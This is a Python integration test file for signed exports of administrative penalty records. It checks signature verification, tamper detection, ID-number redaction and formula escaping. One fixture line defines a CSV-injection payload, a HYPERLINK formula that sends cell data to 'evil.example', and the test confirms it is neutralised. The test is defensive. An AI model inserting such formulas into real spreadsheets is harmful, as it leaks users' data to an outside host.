"""Signed exports: signed by the publication key inside OpenBao, verified offline, any changed byte fails."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from crypto.signing import generate_signing_key
from hub.core.runtime import Runtime
from hub.disclosure import export, manifest
from hub.disclosure.cli import publication_app
from keys.names import HUB_SIGNING_KEY
from tests.integration.disclosure.helpers import OFFICER_A, approve_confirm_publish, checked_batch, penalty, store

pytestmark = pytest.mark.integration


def _exported(runtime: Runtime, tmp_path: Path) -> tuple[Path, list[str]]:
    sent = [penalty(i) for i in range(3)]
    department = store(runtime, sent)
    summary = checked_batch(runtime, department)
    approve_confirm_publish(runtime, summary.id)
    out = tmp_path / "export"
    result = export.export_batch(engine=runtime.engine, transit=runtime.transit, officer=OFFICER_A,
                                 batch_id=summary.id, directory=out)
    assert result.records == 3
    return out, [str(r["fields"]["证件号码"]) for r in sent]  # type: ignore[index]


def test_export_is_signed_and_verifies_offline(runtime: Runtime, tmp_path: Path) -> None:
    out, id_numbers = _exported(runtime, tmp_path)
    stem = next(out.glob("*.csv")).stem
    assert {p.name for p in out.iterdir()} == {
        f"{stem}.csv", f"{stem}.json", manifest.MANIFEST, manifest.SIGNATURE, manifest.KEY_FILE
    }
    csv_file = next(out.glob("*.csv"))
    rows = list(csv.DictReader(io.StringIO(csv_file.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 3 and all(row["证件号码"] == "" for row in rows)
    assert list(rows[0])[:3] == ["行政相对人名称", "行政相对人类别", "行政相对人代码_1"]  # national-standard order
    for path in out.iterdir():
        for number in id_numbers:
            assert number not in path.read_text(encoding="utf-8-sig")

    pinned = runtime.transit.public_keys(HUB_SIGNING_KEY)
    result = manifest.verify_directory(out, public_keys=pinned)
    assert result.ok, result.problems
    assert result.files == 2
    assert runtime.transit.verify(HUB_SIGNING_KEY, (out / manifest.MANIFEST).read_bytes(),
                                  (out / manifest.SIGNATURE).read_text().strip())


@pytest.mark.parametrize("target", ["csv", "json", "manifest"])
def test_any_changed_byte_fails_verification(runtime: Runtime, tmp_path: Path, target: str) -> None:
    out, _ = _exported(runtime, tmp_path)
    stem = next(out.glob("*.csv")).stem
    path = out / (manifest.MANIFEST if target == "manifest" else f"{stem}.{target}")
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))

    hub_keys = runtime.transit.public_keys(HUB_SIGNING_KEY)
    result = manifest.verify_directory(out, public_keys=hub_keys)
    assert not result.ok
    fingerprint = manifest.key_fingerprint(hub_keys[1])
    cli = CliRunner().invoke(publication_app, ["verify", str(out), "--fingerprint", fingerprint])
    assert cli.exit_code == 1, cli.output
    assert "FAILED" in cli.output


def test_added_or_removed_files_fail_and_a_foreign_key_is_refused(runtime: Runtime, tmp_path: Path) -> None:
    out, _ = _exported(runtime, tmp_path)
    hub_keys = runtime.transit.public_keys(HUB_SIGNING_KEY)
    pinned = manifest.key_fingerprint(hub_keys[1])
    ok = CliRunner().invoke(publication_app, ["verify", str(out), "--fingerprint", pinned])
    assert ok.exit_code == 0, ok.output
    (out / "extra.csv").write_text("x")
    assert any("not listed" in p for p in manifest.verify_directory(out, public_keys=hub_keys).problems)
    (out / "extra.csv").unlink()
    (out / f"{next(out.glob('*.csv')).stem}.json").unlink()
    assert any("missing" in p for p in manifest.verify_directory(out, public_keys=hub_keys).problems)

    key_file = tmp_path / "other-key.json"
    _, foreign = generate_signing_key()
    key_file.write_text(json.dumps({"public_keys": {"1": foreign}}))
    assert manifest.verify_directory(out, public_keys=manifest.read_key_file(key_file)).problems == [
        "manifest.json: signature does not verify"
    ]


FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"详情")'


def test_cells_that_start_like_a_formula_are_escaped_and_the_export_still_verifies(
    runtime: Runtime, tmp_path: Path
) -> None:
    sent = [penalty(0, 处罚依据=FORMULA), penalty(1, 处罚内容="+罚款人民币5000元"), penalty(2)]
    department = store(runtime, sent)
    summary = checked_batch(runtime, department)
    approve_confirm_publish(runtime, summary.id)
    out = tmp_path / "export"
    export.export_batch(engine=runtime.engine, transit=runtime.transit, officer=OFFICER_A,
                        batch_id=summary.id, directory=out)

    stem = next(out.glob("*.csv")).stem
    rows = list(csv.DictReader(io.StringIO((out / f"{stem}.csv").read_text(encoding="utf-8-sig"))))
    by_basis = sorted(row["处罚依据"] for row in rows)
    assert "'" + FORMULA in by_basis and FORMULA not in by_basis
    assert "'+罚款人民币5000元" in {row["处罚内容"] for row in rows}
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
    # The JSON is data, not a spreadsheet: it keeps the published value as it is.
    document = json.loads((out / f"{stem}.json").read_text(encoding="utf-8"))
    assert FORMULA in {record["处罚依据"] for record in document["records"]}
    # The manifest signs the escaped bytes: the export verifies against the hub's key.
    assert manifest.verify_directory(out, public_keys=runtime.transit.public_keys(HUB_SIGNING_KEY)).ok
